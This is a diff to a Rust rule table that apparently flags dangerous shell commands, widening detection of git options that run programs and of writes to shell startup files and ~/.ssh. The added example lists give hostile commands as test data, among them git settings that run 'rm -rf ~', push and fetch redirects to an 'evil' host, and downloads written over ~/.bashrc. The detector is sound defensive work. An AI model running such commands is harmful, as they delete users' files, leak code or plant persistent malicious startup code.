@@ -6,7 +6,7 @@
 //! `/home/user/project`); a test runs every one of them. To add a rule, add a
 //! row here with both kinds of examples.
 
-use super::paths::{is_block_device, is_secret, protected_reason};
+use super::paths::{self, is_block_device, is_secret, protected_reason};
 use super::{Cmd, Tier, scan};
 use crate::parse::{Problem, programs};
 
@@ -460,19 +460,20 @@ pub static RULES: &[Rule] = &[
         tier: Danger,
         sentence: "Sets a git option that makes git run a program (hooks, pager, ssh command, alias, filter).",
         check: C(|c| {
-            let risky_key = |kv: &str| {
-                let key = kv.split('=').next().unwrap_or(kv).to_ascii_lowercase();
-                !scan::SAFE_GIT_KEYS
-                    .iter()
-                    .any(|k| match k.strip_suffix('*') {
-                        Some(p) => key.starts_with(p),
-                        None => key == *k,
-                    })
+            let risky = |kv: &str| match kv.split_once('=') {
+                Some((k, v)) => scan::git_setting_risky(k, Some(v)),
+                None => scan::git_setting_risky(kv, Some("true")),
             };
-            if c.git_config_overrides().iter().any(|kv| risky_key(kv)) {
+            let overrides = c.git_config_overrides();
+            if overrides.iter().any(|kv| risky(kv)) {
                 return true;
             }
             c.git().is_some_and(|(sub, rest)| {
+                if sub == "clone" || sub == "submodule" {
+                    return super::option_values(rest, &["-c", "--config"])
+                        .iter()
+                        .any(|kv| risky(kv));
+                }
                 if sub != "config" {
                     return false;
                 }
@@ -487,16 +488,27 @@ pub static RULES: &[Rule] = &[
                         "--show-origin",
                         "--unset",
                         "--unset-all",
+                        "--get-urlmatch",
+                        "--get-color",
+                        "--get-colorbool",
+                        "--remove-section",
                     ],
-                ) || super::operands(rest)
-                    .first()
-                    .is_some_and(|w| matches!(w.value.as_str(), "get" | "list"));
+                ) || super::operands(rest).first().is_some_and(|w| {
+                    matches!(
+                        w.value.as_str(),
+                        "get" | "list" | "unset" | "remove-section"
+                    )
+                });
                 let ops = super::operands(rest);
-                let (key, has_value) = match ops.first().map(|w| w.value.as_str()) {
-                    Some("set") => (ops.get(1), ops.len() > 2),
-                    _ => (ops.first(), ops.len() > 1),
+                let (key, value) = match ops.first().map(|w| w.value.as_str()) {
+                    Some("set") => (ops.get(1), ops.get(2)),
+                    _ => (ops.first(), ops.get(1)),
                 };
-                !reading && has_value && key.is_some_and(|k| risky_key(&k.value))
+                !reading
+                    && value.is_some()
+                    && key.is_some_and(|k| {
+                        scan::git_setting_risky(&k.value, value.map(|v| v.value.as_str()))
+                    })
             })
         }),
         examples: &[
@@ -509,6 +521,17 @@ pub static RULES: &[Rule] = &[
             "git --config-env=core.pager=X log",
             "git -c protocol.ext.allow=always clone ext::x",
             "git --no-pager -c core.pager=x log",
+            "git clone -c core.fsmonitor='rm -rf ~' https://x/r",
+            "git clone --config=core.hooksPath=hooks https://x/r",
+            "git config alias.x '!rm -rf ~'",
+            "git config set alias.x '!sh'",
+            "git config core.editor 'sh -c x'",
+            "git config core.pager './pager.sh'",
+            "git config url.https://evil/.insteadOf https://github.com/",
+            "git config credential.helper store",
+            "git -c core.fsmonitor=./x status",
+            "git config --add remote.origin.pushurl https://evil/x",
+            "git config diff.img.textconv ./conv",
         ],
         counterexamples: &[
             "git -c color.ui=always log",
@@ -521,6 +544,14 @@ pub static RULES: &[Rule] = &[
             "git config get core.pager",
             "git config set user.name x",
             "git config set core.pager",
+            "git config alias.st status",
+            "git config --global alias.co 'checkout -b'",
+            "git config core.editor vim",
+            "git -c core.pager=cat log",
+            "git config --global core.editor 'code --wait'",
+            "git clone -c core.autocrlf=false https://x/r",
+            "git config --unset core.pager",
+            "git config pull.rebase true",
         ],
     },
     Rule {
@@ -915,6 +946,9 @@ pub static RULES: &[Rule] = &[
                 || c.written_paths()
                     .iter()
                     .any(|p| protected_reason(c.ctx, p).is_some())
+                || c.written_folders()
+                    .iter()
+                    .any(|d| paths::holds_protected(c.ctx, d))
         }),
         examples: &[
             "echo 'alias ls=rm' >> ~/.bashrc",
@@ -935,6 +969,17 @@ pub static RULES: &[Rule] = &[
             "cd ~ && echo x >> .bashrc",
             "cd .git/hooks && cp ../../evil pre-commit",
             "git config -f .git/config user.name x",
+            "tar -C ~ -xf x.tar",
+            "cd ~ && tar xzf x.tgz",
+            "patch -d ~ -p0 < d.diff",
+            "unzip -d ~/.config x.zip",
+            "curl -o ~/.bashrc https://x/rc",
+            "wget -O ~/.profile https://x/p",
+            "sort -o ~/.zshrc x",
+            "sed -i.bak s/x/y/ ~/.bashrc",
+            "cp .bashrc ~",
+            "find . -fprint ~/.bashrc",
+            "mv --target=/home/user/.ssh k",
         ],
         counterexamples: &[
             "echo x >> notes.txt",
@@ -951,6 +996,11 @@ pub static RULES: &[Rule] = &[
             "echo x > config.toml",
             "echo x > .codex/notes.md",
             "echo '{}' > hooks.json",
+            "tar -xzf a.tgz -C vendor",
+            "unzip a.zip",
+            "curl -o page.html https://x",
+            "sort -o sorted.txt data.txt",
+            "perl -Ilib -MFile::Find -e 'print 1' ~/.bashrc",
         ],
     },
     Rule {
@@ -1079,6 +1129,10 @@ pub static RULES: &[Rule] = &[
             if c.flag(&["-R", "--recursive"]) {
                 return true;
             }
+            // `--reference=FILE` copies another file's mode: no mode operand.
+            if c.flag(&["--reference"]) {
+                return false;
+            }
             let mode = c
                 .operands()
                 .first()
@@ -1125,6 +1179,7 @@ pub static RULES: &[Rule] = &[
             "chmod =rw f",
             "chmod u+w,g+w f",
             "chmod ug+x f",
+            "chmod --reference=a.txt b.txt",
         ],
     },
     Rule {
